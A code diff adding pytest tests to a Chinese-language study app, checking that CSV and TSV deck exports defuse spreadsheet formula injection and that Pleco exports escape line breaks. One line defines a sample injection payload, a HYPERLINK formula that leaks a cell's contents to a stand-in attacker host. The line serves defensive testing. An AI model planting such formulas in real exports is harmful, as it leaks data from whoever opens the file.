@@ -1,13 +1,20 @@
 """The deck leaves the app in files other programs read: Anki's own library reads our package back."""
 
+import csv
+import io
+import os
 import time
+from pathlib import Path
 
+import pytest
 from lxml import etree
 
 from studyapp import deck, text
 from studyapp.cli import main
-from studyapp.deck_export import cards, export_deck
+from studyapp.deck_export import Card, cards, export_deck
 from studyapp.document import open_in_library
+from studyapp.exchange import export_text, read_pairs
+from studyapp.segments import Segment, Status
 from studyapp.store import Library
 
 from ..conftest import DEFAULT_TEXT
@@ -96,3 +103,89 @@ def test_the_package_carries_the_kinds_the_learner_reviews_and_a_re_export_adds_
         assert collection.find_cards("card:Recall") == []
     finally:
         collection.close()
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+def _calc_cells(path, tmp_path, separator: int = 44) -> str:
+    """The file as LibreOffice Calc opens it, saved as a flat ODF spreadsheet."""
+    import shutil
+    import subprocess
+
+    soffice = shutil.which("soffice")
+    if soffice is None or not any(Path(os.path.realpath(soffice)).parent.glob("libsclo.so*")):
+        pytest.skip("LibreOffice Calc is not installed")
+    outdir = tmp_path / "calc"
+    subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--headless",
+                    f"--infilter=Text - txt - csv (StarCalc):{separator},34,76", "--convert-to", "fods",
+                    "--outdir", str(outdir), str(path)], capture_output=True, timeout=120, check=True)
+    return (outdir / (path.stem + ".fods")).read_text(encoding="utf-8")
+
+
+def _hostile_deck_csv(tmp_path, analyzer) -> Path:
+    with Library.open(tmp_path / "library.sqlite") as library:
+        document = text.split("中国和俄罗斯是邻国。")
+        identifier = library.add_document(document, "t", None)
+        library.save_translation(library.segments(identifier)[0].id, "+1 neighbours @home")
+        library.set_definition("中国", HOSTILE)
+        _gathered, found = deck.build(library, identifier, document, analyzer)
+        library.set_translation("邻国", "-ism, a suffix")  # legitimate text that starts with "-"
+        made = cards(document, library.segments(identifier), found, library.chosen_translations())
+    out = tmp_path / "deck.csv"
+    out.write_bytes(export_deck(made, "csv"))
+    return out
+
+
+def test_a_csv_export_guards_every_cell_that_could_start_a_formula(tmp_path, analyzer):
+    out = _hostile_deck_csv(tmp_path, analyzer)
+    rows = {row[0]: row for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8")))}
+    assert rows["中国"][2] == "'" + HOSTILE and rows["中国"][5] == "'+1 neighbours @home"
+    assert rows["邻国"][6] == "'-ism, a suffix" and rows["邻国"][1] == "lín guó"
+
+
+def test_libreoffice_runs_no_formula_of_a_csv_export(tmp_path, analyzer):
+    calc = _calc_cells(_hostile_deck_csv(tmp_path, analyzer), tmp_path)
+    assert "table:formula" not in calc and "evil.example" in calc and "xlink:href" not in calc
+
+
+def _hostile_pairs_tsv(tmp_path) -> tuple[Path, list[str]]:
+    document = text.split("中国和俄罗斯是邻国。他们说：")
+    segments = [Segment(i + 1, c.start, c.end, "", Status.UNTRANSLATED) for i, c in enumerate(document.clauses)]
+    targets = [HOSTILE, "'-quoted already"]
+    segments = [s._replace(target=t, status=Status.DRAFT) for s, t in zip(segments, targets, strict=True)]
+    out = tmp_path / "pairs.tsv"
+    out.write_bytes(export_text(document, segments, "tsv"))
+    return out, targets
+
+
+def test_a_tsv_export_guards_formulas_and_imports_back_exactly(tmp_path):
+    out, targets = _hostile_pairs_tsv(tmp_path)
+    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8")), delimiter="\t"))
+    assert [row[1] for row in rows[1:]] == ["'" + HOSTILE, "''-quoted already"]
+    assert [target for _source, target in read_pairs(out)] == targets
+
+
+def test_libreoffice_runs_no_formula_of_a_tsv_export(tmp_path):
+    calc = _calc_cells(_hostile_pairs_tsv(tmp_path)[0], tmp_path, separator=9)
+    assert "table:formula" not in calc and "evil.example" in calc
+
+
+def test_a_pasted_definition_with_tabs_and_line_breaks_keeps_one_pleco_card_per_line(tmp_path, analyzer):
+    with Library.open(tmp_path / "library.sqlite") as library:
+        document = text.split("中国和俄罗斯是邻国。")
+        identifier = library.add_document(document, "t", None)
+        library.set_definition("邻国", "neighbouring country\tneighbour\r\n\r\nbordering state\n")  # as pasted
+        _gathered, found = deck.build(library, identifier, document, analyzer)
+        made = cards(document, library.segments(identifier), found)
+    lines = export_deck(made, "pleco").decode("utf-8").splitlines()
+    assert len(lines) == len(made) and all(line.count("\t") == 2 for line in lines)
+    assert "邻国\tlin2guo2\tneighbouring country neighbour / bordering state" in lines
+
+
+def test_a_definition_stored_with_line_breaks_is_escaped_in_the_pleco_file():
+    """A library written before definitions were kept to one line may hold them: Pleco's own line break."""
+    card = Card("邻国", "lín guó", "lin2guo2", "neighbouring country\r\nneighbour\tstate", 5, "", "", "", "")
+    china = Card("中国", "zhōng guó", "zhong1guo2", "China", 1, "", "", "", "")
+    lines = export_deck([card, china], "pleco").decode("utf-8").split("\n")
+    assert lines == ["邻国\tlin2guo2\tneighbouring country\ueab1neighbour state", "中国\tzhong1guo2\tChina", ""]
